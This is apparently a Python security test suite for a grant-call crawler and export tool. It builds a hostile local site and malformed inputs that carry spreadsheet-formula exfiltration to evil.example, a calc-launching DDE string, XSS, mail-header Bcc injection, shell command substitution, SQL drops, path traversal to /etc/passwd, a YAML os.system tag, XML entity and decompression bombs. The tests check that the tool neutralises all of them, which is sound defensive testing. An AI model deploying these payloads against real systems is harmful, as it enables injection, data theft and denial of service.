"""One hostile site, in each field of its calls all that could do harm where
it ends up; and every command in every format over it."""

import gzip
import json
import os
import re
import zlib

import case
import rows
from support import harmless, tree
from test_mcp import Server

HOST = "injektion"
ROOT = "http://injektion.localhost/"
CALL = ("vaxtkraftsverket.localhost/sokfinansiering/utlysningar/"
        "affarslyftforsocialaforetag.3012.html")
TITLE = "Affärslyft för sociala företag"
LEAD = "Driver ni ett företag där samhällsnyttan är själva poängen?"
CONTACT = "affarslyft@vaxtkraftsverket.example"
CANARY = "medel-canary"
PROFILE = tree.profile_path("north", "n-vuollerim-aterbruk")

# What stands in the fields, by what it is meant for. The first word is what
# tells the page's record; a comment says who would be taken in.
POISON = {
    # a terminal, a log: colours, titles, clipboard, C1, DEL
    "Ett": "\x1b[2J\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x1b[31m\x9b2J\x9d0;x"
           "\x9c\x7f\x08\x08\x0b\x0c",
    # a reader: text that runs the other way, letters that are none
    "Tv\u00e5": "\u202egnp.exe\u202c \u2066a\u2069 \u200fb\u061c\u200e \ufeff\u2028"
                "\u2029\ufffe\ud7ff e\u0301" + "\u0335" * 60,
    # a C string
    "Tre": "\0 slut\0",
    # a spreadsheet
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"Fyra\")": "=1+1 @SUM(1) +cmd|' "
    "/C calc'!A0 -2+3 \t=1 \r=1",
    # a browser, a mail program that shows HTML
    "Fem": "</script></style></title><script>alert(1)</script><img src=x "
           "onerror=alert(2)><svg onload=alert(3)> ]]> --> '\" onmouseover=x "
           "javascript:alert(4) &lt;b&gt;",
    # a calendar, a mail's head
    "Sex": "\r\nBEGIN:VEVENT\r\nATTENDEE:mailto:evil@evil.example\r\n"
           "Bcc: evil@evil.example\r\n\r\n.\r\nX-Evil: 1 =?utf-8?q?=0D=0ABcc:"
           "_evil=40evil.example?= \\n;\\,: \"",
    # a path, a shell, printf, SQL, a template, YAML, Markdown
    "Sju": "../../../../" + CANARY + " /etc/passwd %n%s%s%1$n $(touch "
           + CANARY + ") `touch " + CANARY + "` ; touch " + CANARY
           + " | x '; DROP TABLE record; -- {{7*7}} ${7*7} !!python/object "
           "[x](javascript:alert(1)) ![x](http://evil.example/x.png) \\",
    # whoever keeps room for it
    "\u00c5tta": "A" * 30000 + " " + "\u00e5\u0308\U0001f469\u200d\U0001f467" * 3000,
}
KEYS = {word: "p%d" % i for i, word in enumerate(POISON)}


def entities(text):
    return "".join(c if c.isalnum() else "&#%d;" % ord(c) for c in text)


def raw(text):
    """As bytes that a careless server would send."""
    return re.sub("[<>&]", lambda m: "&#%d;" % ord(m.group(0)),
                  text.replace("\ufffe", ""))


def call_page(word, spelt, day="15"):
    """The call's page with this poison in all that is read of it."""
    poison = spelt(word + " " + POISON[word])
    with open(os.path.join(tree.sites_dir("north"), CALL),
              encoding="utf-8") as f:
        text = f.read()
    text = re.sub(r"<link rel=\"canonical\"[^>]*>", "", text)
    mine = spelt("Lyft %s för sociala företag %s" % (KEYS[word], word))
    if word.startswith("="):
        mine = spelt(word + " Lyft " + KEYS[word])
    # A heading of thousands of letters is taken for none.
    text = text.replace(TITLE, mine + " " + spelt(POISON[word][:600]))
    text = text.replace(LEAD, LEAD + " " + poison)
    text = text.replace(CONTACT, "%s, %s" % (poison, CONTACT))
    text = text.replace("15 januari", day + " januari")
    link = "".join("%%%02X" % b for b in POISON[word][:60].encode("utf-8"))
    extra = ("<p>Diarienummer: 2026/%s-%s</p><p>Kontaktperson: %s</p>"
             "<p>Bara för Vuollerim %s</p>"
             "<ul><li><a href=\"/dok/%s.pdf\">Mall %s</a><li><a "
             "href=\"javascript:alert(1)\">Ansök %s</a><li><a "
             "href=\"data:text/html,%s\">Ansök</a></ul>" % (
                 KEYS[word], poison, poison, poison, link, poison, poison,
                 link))
    data = json.dumps({"@context": "https://schema.org", "@type": "Grant",
                       "name": word + POISON[word], "description":
                       POISON[word], "url": "javascript:alert(1)",
                       "funder": {"@type": "Organization",
                                  "name": POISON[word]}})
    return text.replace("</main>", extra + "</main>").replace(
        "<head>", "<head><script type=\"application/ld+json\">%s</script>"
        % data.replace("</", "<\\/"), 1)


def lol(body, name="x"):
    """XML whose entities grow to a billion."""
    levels = "".join("<!ENTITY l%d \"%s\">" % (i, "&l%d;" % (i - 1) * 10)
                     for i in range(1, 10))
    return ("<?xml version=\"1.0\"?><!DOCTYPE %s [<!ENTITY l0 \"http://l\">%s"
            "<!ENTITY out SYSTEM \"file:///etc/passwd\">]>" % (name, levels)
            + body)


def pdf_bomb():
    """A page whose text is a gigabyte once unpacked, from 1 MB."""
    packed = zlib.compressobj(9)
    text = b"BT (Sista ansokningsdag) Tj ET " * 33000
    stream = b"".join(packed.compress(text) for _ in range(1000))
    stream += packed.flush()
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e9 1e9]"
            b"/Contents 4 0 R>>endobj\n4 0 obj<</Filter/FlateDecode/Length "
            + str(len(stream)).encode() + b">>stream\n" + stream
            + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


HEAVY = {
    "djup.html": b"<script type=\"application/ld+json\">" + b"{\"a\":[" * 200000
                 + b"</script><h1>Bidrag</h1>",
    "tal.html": ("<h1>Bidrag</h1><p>Högst " + "9" * 4000 + " kronor, 1e999999 "
                 "procent, senast den 99999999999 januari 99999999999, minst "
                 "-18446744073709551616 anställda").encode(),
    "rad.html": b"<h1>Bidrag</h1><p>" + b"a" * 9000000,
    "bok.xlsx": b"PK\3\4" + os.urandom(1000),
    "utlysningstext-bomb.pdf": None,
}


class Injection(rows.Rows):
    """Two nights: in the second the last days are others."""
    weight = 7

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env = tree.environment(XDG_DATA_HOME=cls.path("home"),
                                   XDG_CONFIG_HOME=cls.path("config"))
        cls.write_site()
        cls.told = []
        with cls.serve() as web:
            cls.night(web)
            for word, key in KEYS.items():
                cls.put(HOST, key + ".html", call_page(word, entities, "29"))
            cls.night(web, "--force")
            cls.asked = web.requests()
        cls.records = cls.export(cls.data)
        cls.write_profile()
        # Something to be at home in: what is not there is not found there.
        cls.ids = {key: r["id"] for r in cls.records
                   for key in KEYS.values() if r["url"] == ROOT + key + ".html"}

    @classmethod
    def write_site(cls):
        names = [key + ".html" for key in KEYS.values()]
        raws = ["raw-" + n for n in names]
        cls.site(HOST, *["/" + n for n in (*names, *raws, *HEAVY)],
                 "/bomb.html", "/lang.html")
        links = "".join("<li><a href=\"/%s\">Utlysning %s</a>" % (
            name, raw(POISON[word])) for word, name in zip(POISON, names))
        cls.put(HOST, "index.html", (
            "<html lang=sv><title>Alla</title><link rel=alternate type="
            "application/rss+xml href=/nytt.rss><ul>" + links + "".join(
                "<li><a href=\"/%s\">Utlysning</a>" % n for n in (
                    *raws, *HEAVY, "bomb.html", "lang.html"))).encode(
                        "utf-8", "replace"))
        for word, key in KEYS.items():
            cls.put(HOST, key + ".html", call_page(word, entities))
            cls.put(HOST, "raw-" + key + ".html", call_page(word, raw).encode(
                "utf-8", "replace"))
        for name, body in HEAVY.items():
            cls.put(HOST, name, body if body is not None else pdf_bomb())
        cls.put(HOST, "sitemap.xml", lol(
            "<urlset><url><loc>&l9;</loc></url><url><loc>&out;</loc></url>"
            "<url><loc>%sp0.html</loc></url></urlset>" % ROOT, "urlset"))
        cls.put(HOST, "nytt.rss", lol(
            "<rss version=\"2.0\"><channel><item><title>&l9;</title>"
            "<link>&l9;</link></item></channel></rss>", "rss"))
        cls.put(HOST, "robots.txt", "User-agent: *\nSitemap: %ssitemap.xml\n"
                "Sitemap: file:///etc/passwd\nSitemap: \x1b[2J\n" % ROOT
                + "X" * 70000 + "\n")
        bomb = gzip.compress(b"<p>" + b"a" * (100 << 20), 9)
        cls.raw(HOST, "/bomb.html", rows.reply(
            bomb, "Content-Type: text/html", "Content-Encoding: gzip",
            rows.length(bomb), "X-\x1b[2J: \x1b[2J"))
        cls.fault(HOST, "/lang.html", "endless")
        tree.write_funder(cls.funders, HOST, "=1+1 \x1b[2J\u202e<script>x"
                          "</script>\r\nBcc: e@evil.example", ["SE"], [ROOT],
                          notes="\x1b[2J\u202e %n")

    @classmethod
    def write_profile(cls):
        """As it might come by mail from somebody."""
        os.makedirs(cls.path("profiles"))
        cls.profile = cls.path("profiles", "profile.yaml")
        with open(PROFILE, encoding="utf-8") as f:
            text = re.sub(r"(?m)^(name|description):.*\n(?:[ \t]+.*\n)*", "",
                          f.read())
        name = json.dumps("Fem \x1b[2J\u202e" + POISON["Fem"] + POISON["Sex"])
        with open(cls.profile, "w", encoding="utf-8") as f:
            f.write("name: %s\n" % name + re.sub(r"(?m)^id:.*\n", "id: profile\n", text))

    @classmethod
    def night(cls, web, *more):
        for _ in range(1 + bool(more)):
            cls.told.append(cls.rows_crawl(web.port, *more))
        cls.told.append(cls.index(cls.data))

    def ask(self, command, *more, codes=(0,), **options):
        done = self.medel(command, "--data", self.data, "--today",
                          tree.TODAY, *more, env=self.env, **options)
        self.assertExit(done, *codes)
        self.assertIsNone(harmless.steering(done.err))
        return done

    def wrote(self, command, name, *more, codes=(0,)):
        """The bytes that COMMAND wrote; also checked: what it told."""
        path = self.path("out." + name)
        done = self.ask(command, "--output", path, *more, codes=codes)
        self.assertEqual(done.out, "")
        with open(path, "rb") as f:
            return f.read()

    # --- what went in --------------------------------------------------------

    def test_all_of_it_was_read(self):
        """Else the rest would prove nothing."""
        self.assertEqual(set(self.ids), set(KEYS.values()))
        by_key = {key: r for key, i in self.ids.items() for r in self.records
                  if r["id"] == i}
        for word, key in KEYS.items():
            with self.subTest(word=word[:20]):
                r = by_key[key]
                self.assertIn(key, r["title"])
                self.assertEqual([d["date"] if isinstance(d, dict) else d
                                  for d in r["deadlines"]], ["2027-01-29"])
        texts = "\n".join(s for r in self.records for s in harmless.strings(r))
        for part in ("=HYPERLINK", "<script>alert(1)", "BEGIN:VEVENT",
                     "DROP TABLE", "../../"):
            self.assertIn(part, texts)

    def test_nights(self):
        for done in self.told:
            self.assertExit(done, 0, 4)
            self.assertIsNone(harmless.steering(done.out + done.err))
            self.assertNotRegex(done.out + done.err, r"(?m)^Bcc:")
        self.assertLess(self.told[0].seconds, 100)

    def test_bombs_cost_their_page(self):
        pages = self.pages()
        self.assertNotKept(pages, HOST + "/bomb.html", HOST + "/lang.html")
        self.assertKept(pages, HOST + "/p0.html", HOST + "/djup.html")
        for name in ("djup.html", "tal.html", "rad.html", "bok.xlsx",
                     "utlysningstext-bomb.pdf"):
            path = self.path("sites", HOST + ".localhost", name)
            for command in ("extract", "clean"):
                with self.subTest(name=name, command=command):
                    done = self.medel(command, path)
                    self.assertExit(done, 0, 1, 3)
                    self.assertIsNone(harmless.steering(done.out + done.err))
                    self.assertLess(len(done.out), 10 << 20)

    def test_entities_lead_nowhere(self):
        """Neither the file nor an address that has grown was asked for."""
        for r in self.asked:
            self.assertNotIn("passwd", r.uri)
            self.assertLess(len(r.uri), 3000)

    # --- the stores ----------------------------------------------------------

    def test_stores(self):
        for name in ("crawl.db", "calls.db"):
            harmless.database(os.path.join(self.data, name))
        for r in self.records:
            self.assertRegex(r["id"], r"^[a-z0-9][a-z0-9-]*$")
            self.assertLess(len(r["title"].encode()), 1001)
            for address in [r["url"], *r["urls"], *[
                    d["url"] for d in r.get("documents") or []]]:
                self.assertRegex(address, r"^https?://[!-~]+$")

    def test_nothing_was_run_or_written_elsewhere(self):
        for folder in (self.work, os.getcwd(), tree.TREE, "/", "/tmp"):
            self.assertNotIn(CANARY, os.listdir(folder))
        kept = {n for n in os.listdir(self.work) if not n.startswith("out.")}
        self.assertLessEqual(kept, {"sites", "funders", "data", "web", "home",
                                    "config", "profiles"})

    # --- lists, in every format ------------------------------------------------

    READERS = {
        "table": harmless.terminal, "jsonl": harmless.as_jsonl,
        "json": harmless.as_json, "csv": harmless.as_csv,
        "xlsx": harmless.as_xlsx, "ics": harmless.as_ics,
        "atom": harmless.as_atom, "md": harmless.as_markdown,
        "html": harmless.as_html}
    # Every exporter once over each kind of list; what is only said in other
    # words, in those that people look at.
    LISTS = {
        "export": (READERS, "export"),
        "search": (("table", "md", "json"), "search", "--all", "--limit", "0"),
        "words": (("table", "html"), "search", "--all", "--limit", "0", "lyft",
                  "OR", "\"\x1b[2J <script>alert(1)</script>\""),
        "why": (("table", "html", "md"), "search", "--all", "--limit", "0",
                "--explain"),
        "profile": (("table", "html", "xlsx", "ics"), "search", "--all",
                    "--limit", "0", "--profile", "PROFILE"),
        "match": (READERS, "match", "--profiles", "PROFILES"),
        "shortlist": (("table", "csv", "xlsx", "html", "ics"), "shortlist",
                      "list"),
    }

    def arguments(self, name):
        return [{"PROFILE": self.profile, "PROFILES": os.path.dirname(
            self.profile)}.get(a, a) for a in self.LISTS[name][1:]]

    def test_lists(self):
        for ident in self.ids.values():
            self.ask("shortlist", "add", ident)
        for name in self.LISTS:
            command, *more = self.arguments(name)
            for form in self.LISTS[name][0]:
                reader = self.READERS[form]
                with self.subTest(list=name, format=form):
                    found = reader(self.wrote(command, form, "--format", form,
                                              *more, codes=(0, 1)))
                    if form == "html":
                        self.assertEqual(found, ["script", "style"])
                    elif form in ("jsonl", "json", "atom"):
                        self.assertGreaterEqual(len(found), 1)

    def test_csv_for_a_spreadsheet(self):
        for locale, delimiter in (("C.UTF-8", ","), ("sv_SE.UTF-8", ";")):
            self.wrote("export", "x.csv")
            path = self.path("out.e.csv")
            done = self.medel("export", "--data", self.data, "--output", path,
                              "--dialect", "excel", "--today", tree.TODAY,
                              env=tree.environment(LC_ALL=locale))
            self.assertExit(done, 0)
            with open(path, "rb") as f:
                self.assertGreater(len(harmless.as_csv(f.read(), delimiter)),
                                   len(KEYS))

    def test_events_are_those_of_the_calls(self):
        events = harmless.as_ics(self.wrote("export", "e.ics"))
        wanted = sum(len(r["deadlines"]) for r in self.records
                     if not r.get("withdrawn"))
        self.assertLessEqual(len(events), wanted + 4 * len(self.records))
        self.assertEqual(len({e["UID"] for e in events}), len(events))
        self.assertGreaterEqual(len(events), len(KEYS))

    # --- the other commands ----------------------------------------------------

    def test_commands(self):
        on_terminal = ["--format", "table"]
        commands = [
            ("search", "--facets"), ("search", "--facets", *on_terminal),
            ("search", "--predicted", "--all"),
            ("search", "--like", self.ids["p4"], *on_terminal),
            ("changes", "--since", "2026-01-01", "--all", *on_terminal),
            ("calendar", "--months", "12", "--all", *on_terminal),
            ("doctor",), ("doctor", "--format", "json"),
            ("sources", "--funders", self.funders),
            ("sources", "--funders", self.funders, "--lint"),
            ("shortlist", "list", "--format", "table"),
            ("profile", "show", self.profile),
            ("profile", "check", self.profile),
        ]
        for ident in self.ids.values():
            commands += [("show", ident, *on_terminal),
                         ("show", ident, "--history", *on_terminal),
                         ("show", ident, "--profile", self.profile,
                          *on_terminal),
                         ("match", "--call", ident, "--profiles",
                          os.path.dirname(self.profile))]
        for key in KEYS.values():
            page = self.path("sites", HOST + ".localhost", key + ".html")
            commands += [("extract", "--explain", page), ("clean", page),
                         ("extract", page.replace("/p", "/raw-p"))]
        for command in commands:
            with self.subTest(command=command):
                on = [] if command[0] in ("extract", "clean", "profile",
                                          "doctor", "sources",
                                          "shortlist") else [
                    "--today", tree.TODAY]
                data = [] if command[0] in ("extract", "clean",
                                            "profile") else [
                    "--data", self.data]
                done = self.medel(command[0], *data, *on, *command[1:],
                                  env=self.env)
                self.assertExit(done, 0, 1, *(
                    [3, 4] if command[0] in ("doctor", "sources") else []))
                self.assertIsNone(harmless.steering(done.out + done.err))

    def test_json_of_the_other_commands(self):
        for command, *more in (
                ("changes", "--since", "2026-01-01", "--all"),
                ("calendar", "--months", "12", "--all"),
                *[("show", i, "--history") for i in self.ids.values()]):
            for form, reader in (("json", harmless.as_json),
                                 ("jsonl", harmless.as_jsonl)):
                with self.subTest(command=command, form=form):
                    done = self.ask(command, *more, "--format", form)
                    self.assertTrue(reader(done.out.encode()))
        told = self.medel("sources", "--data", self.data, "--funders",
                          self.funders, "--format", "jsonl")
        self.assertEqual(len(harmless.as_jsonl(told.out.encode())), 1)

    def test_digests(self):
        for form, reader in (("text", harmless.terminal),
                             ("html", harmless.as_html),
                             ("eml", harmless.as_mail)):
            more = ["--to", "eva@example.org", "--from", "medel@example.org"
                    ] if form == "eml" else []
            with self.subTest(format=form):
                done = self.ask("digest", "--profile", self.profile,
                                "--since", "2026-01-01", "--dry-run",
                                "--format", form, *more)
                found = reader(done.out.encode())
                if form == "eml":
                    self.assertEqual(found["To"], "eva@example.org")
                    self.assertIsNone(found["Bcc"])
                elif form == "html":
                    self.assertLessEqual(set(found), {"style"})
                else:
                    self.assertIn("Lyft p0", found)
        for address in ("eva@example.org\nBcc: evil@evil.example",
                        "eva@example.org\r\n\r\nx", "Eva\0 <eva@example.org>",
                        "=?x <eva@example.org>\rX: y"):
            done = self.medel("digest", "--data", self.data, "--profile",
                              self.profile, "--since", "2026-01-01",
                              "--format", "eml", "--to",
                              address.replace("\0", ""), "--dry-run",
                              "--today", tree.TODAY, env=self.env)
            if done.code == 0:
                harmless.as_mail(done.out.encode())
            else:
                self.assertExit(done, 2)
                self.assertIsNone(harmless.steering(done.err))

    def test_assistant(self):
        with Server(data=self.data) as s:
            for tool, arguments in (
                    ("search", {"all": True, "limit": 50}),
                    ("search", {"words": "lyft \x1b[2J <script>"}),
                    ("changes", {"since": "2026-01-01", "limit": 200}),
                    ("calendar", {"months": 12}),
                    *[("show", {"id": i, "history": True})
                      for i in self.ids.values()]):
                with self.subTest(tool=tool, arguments=arguments):
                    told = s.call(tool, **arguments)
                    for part in told["result"]["content"]:
                        self.assertIsNone(harmless.steering(part["text"]))
            # Deep and long requests get an answer; the next one too.
            for bad in (b"[" * 500000 + b"\n", b"{\"a\":" * 100000 + b"\n",
                        b"\"" + b"x" * (3 << 20) + b"\"\n", b"\x1b[2J\0\n"):
                s.send(bad)
                self.assertIn("error", s.hear())
            self.assertEqual(s.ask("ping")["result"], {})

    def test_reports(self):
        report, metrics = self.path("out.r.json"), self.path("out.m.prom")
        done = self.medel("update", "--data", self.data, "--funders",
                          self.funders, "--today", tree.TODAY, "--report",
                          report, "--metrics", metrics, "--connect-to",
                          "::127.0.0.1:1", "--allow-private", "--delay", "0")
        self.assertExit(done, 0, 4)
        self.assertIsNone(harmless.steering(done.out + done.err))
        with open(report, "rb") as f:
            harmless.as_json(f.read())
        with open(metrics, "rb") as f:
            for line in harmless.terminal(f.read()).splitlines():
                self.assertRegex(line, r"^(#|medel_\w+(\{[^{}]*\})? )")


class Names(case.Case):
    """Names and files that come from others: ids of funders, calls and lists,
    YAML that grows."""
    quick = True

    IDS = ("../../" + CANARY, "/etc/passwd", "..", ".", "", "a/b", "a\nb",
           "\x1b[2J", "\u202e", "-x", "a" * 5000, "a\\b", "%2e%2e", "A;touch x",
           "$(touch x)", "con", "~root")

    @staticmethod
    def bomb():
        lines = ["a: &a [x,x,x,x,x,x,x,x,x]"]
        for i in range(1, 12):
            lines.append("%c: &%c [%s]" % (97 + i, 97 + i, ",".join(
                ["*" + chr(96 + i)] * 9)))
        return "\n".join(lines) + "\n"

    def yamls(self):
        return {"bomb": self.bomb(), "deep": "a: " + "[" * 300000,
                "deep map": "".join(" " * i + "a:\n" for i in range(900)),
                "long": "notes: \"" + "x" * (3 << 20) + "\"\n",
                "line": "notes: " + "x" * 900000 + "\n",
                "tag": "id: !!python/object/apply:os.system [\"touch x\"]\n",
                "loop": "a: &a [*a]\n", "nul": "id: x\0y\n",
                "escape": "\x1b[2J\u202e: 1\n",
                "many": "".join("k%d: 1\n" % i for i in range(60000))}

    def assertOneLine(self, done, seconds=20):
        self.assertExit(done, 1, 2, 3, 4)
        self.assertIsNone(harmless.steering(done.out + done.err))
        self.assertLess(len(done.err), 4000)
        self.assertLess(done.seconds, seconds)

    def test_ids(self):
        data = os.path.join(case.BASE, "data")
        home = tree.environment(XDG_DATA_HOME=self.path("home"),
                                XDG_CONFIG_HOME=self.path("config"))
        for ident in self.IDS:
            for command in (("show", "--", ident),
                            ("search", "--like=" + ident),
                            ("search", "--profile=" + ident),
                            ("shortlist", "add", "--", ident),
                            ("crawl", "--", ident),
                            ("sources", "--", ident)):
                with self.subTest(command=command):
                    done = self.medel(command[0], "--data", data,
                                      *command[1:], env=home)
                    self.assertIn(done.code, (0, 1, 2, 3))
                    self.assertIsNone(harmless.steering(done.out + done.err))
        self.assertNotIn(CANARY, os.listdir(self.work))
        self.assertNotIn("x", os.listdir(os.getcwd()))

    def test_ids_in_files_of_sources(self):
        for i, ident in enumerate(self.IDS):
            folder = self.path("f%d" % i)
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "a.yaml"), "w") as f:
                f.write("id: %s\nname: x\nregions: [SE]\nstart: [\"http://"
                        "a.localhost/\"]\n" % json.dumps(ident))
            done = self.medel("crawl", "--data", self.path("d%d" % i),
                              "--funders", folder)
            self.assertOneLine(done)
            self.assertIn("a.yaml", done.err)

    def test_profiles(self):
        for name, text in self.yamls().items():
            path = self.path("p.yaml")
            with open(path, "w", encoding="utf-8") as f:
                f.write(text)
            for command in (("search", "--data", os.path.join(
                    case.BASE, "data"), "--profile", path),
                            ("profile", "check", path)):
                with self.subTest(name=name, command=command[0]):
                    done = self.medel(*command)
                    self.assertOneLine(done)
                    self.assertIn("p.yaml", done.err + done.out)

    def test_sources(self):
        for name, text in self.yamls().items():
            folder = self.path("s-" + name.replace(" ", "-"))
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "a.yaml"), "w",
                      encoding="utf-8") as f:
                f.write(text)
            with self.subTest(name=name):
                done = self.medel("sources", "--data", self.path("none"),
                                  "--funders", folder, "--lint")
                self.assertOneLine(done)
                self.assertIn("a.yaml", done.err + done.out)

    def test_vocabulary(self):
        """A folder of words that somebody else made."""
        share = self.path("share")
        page = os.path.join(tree.sites_dir("north"), CALL)
        os.makedirs(os.path.join(share, "data"))
        os.symlink(os.path.join(tree.TREE, "funders"),
                   os.path.join(share, "funders"))
        for name, text in self.yamls().items():
            folder = os.path.join(share, "data", "lexicon")
            case.shutil.rmtree(os.path.join(share, "data"))
            case.shutil.copytree(os.path.join(tree.TREE, "data"),
                                 os.path.join(share, "data"))
            with open(os.path.join(folder, "words.yaml"), "w",
                      encoding="utf-8") as f:
                f.write(text)
            with self.subTest(name=name):
                done = self.medel("extract", page, env=tree.environment(
                    MEDEL_SHARE=share))
                self.assertOneLine(done)
                self.assertIn("words.yaml", done.err)
